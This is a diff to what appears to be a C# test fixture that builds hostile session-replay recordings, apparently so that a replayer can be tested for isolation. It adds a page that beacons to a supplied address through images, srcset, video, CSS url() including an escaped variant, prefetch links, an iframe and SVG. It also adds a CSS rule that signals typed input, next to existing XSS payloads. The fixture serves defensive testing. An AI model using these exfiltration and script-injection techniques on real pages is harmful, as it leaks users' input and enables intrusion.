@@ -23,7 +23,32 @@ internal static class HostileRecording
         new { type = 5, timestamp = Began + LengthMs, data = new { tag = "error", payload = new { message = $"<img src=x onerror=\"{Pwn}\">", stack = "<script>alert('pwned')</script>" } } },
     ]);
 
-    private static object Document() => new
+    /// <summary>A recording that names an address in every way a page has, and opens a dialog with a field that tells by pictures what is typed.</summary>
+    public static string Reaching(string address) => JsonSerializer.Serialize<object[]>(
+    [
+        new { type = 4, timestamp = Began, data = new { href = "https://shop.example/", width = 800, height = 600 } },
+        new { type = 2, timestamp = Began + 1, data = new { node = Page(Reach(address)), initialOffset = new { left = 0, top = 0 } } },
+        new { type = 3, timestamp = Began + 1_000, data = new { source = 0, texts = Array.Empty<object>(), removes = Array.Empty<object>(), attributes = Array.Empty<object>(), adds = Reach(address).SelectMany(node => Flat(node, BodyId)).ToArray() } },
+        new { type = 5, timestamp = Began + LengthMs, data = new { tag = "track", payload = new { name = "end" } } },
+    ]);
+
+    private static Node[] Reach(string address) =>
+    [
+        Element("dialog", new() { ["open"] = "", ["rr_open_mode"] = "modal" }, Element("input", new() { ["autofocus"] = "", ["placeholder"] = " " })),
+        Element("style", new() { ["_cssText"] = $"input:not(:placeholder-shown) {{ background: url({address}/typed) }} p {{ background: url({address}/css) }}" }),
+        Element("img", new() { ["src"] = $"{address}/img", ["referrerpolicy"] = "unsafe-url" }),
+        Element("img", new() { ["srcset"] = $"{address}/srcset 2x" }),
+        Element("video", new() { ["src"] = $"{address}/video", ["poster"] = $"{address}/poster" }),
+        Element("div", new() { ["style"] = $"background: u\\72l({address}/escaped)" }, Text("escaped")),
+        Element("link", new() { ["rel"] = "preconnect", ["href"] = address }),
+        Element("link", new() { ["rel"] = "prefetch", ["href"] = $"{address}/prefetch" }),
+        Element("iframe", new() { ["src"] = $"{address}/frame" }),
+        Element("svg", [], isSvg: true, Element("image", new() { ["href"] = $"{address}/svg" }, isSvg: true)),
+    ];
+
+    private static object Document() => Page([Element(TargetId, "a", [], [Text("a link")]), .. Attacks()]);
+
+    private static object Page(Node[] inBody) => new
     {
         type = 0,
         id = ++_lastId,
@@ -32,7 +57,7 @@ internal static class HostileRecording
             Element("html", [],
                 Element("head", [], Element("meta", new() { ["http-equiv"] = "refresh", ["content"] = "0;url=/pwned" }), Element("base", new() { ["href"] = "javascript:/pwned/" })),
                 Element(BodyId, "body", new() { ["onload"] = Pwn, ["onfocus"] = Pwn },
-                [Element("p", new() { ["id"] = "first" }, Text("from the snapshot")), Element(TargetId, "a", [], [Text("a link")]), .. Attacks()])),
+                [Element("p", new() { ["id"] = "first" }, Text("from the snapshot")), .. inBody])),
         },
     };
 
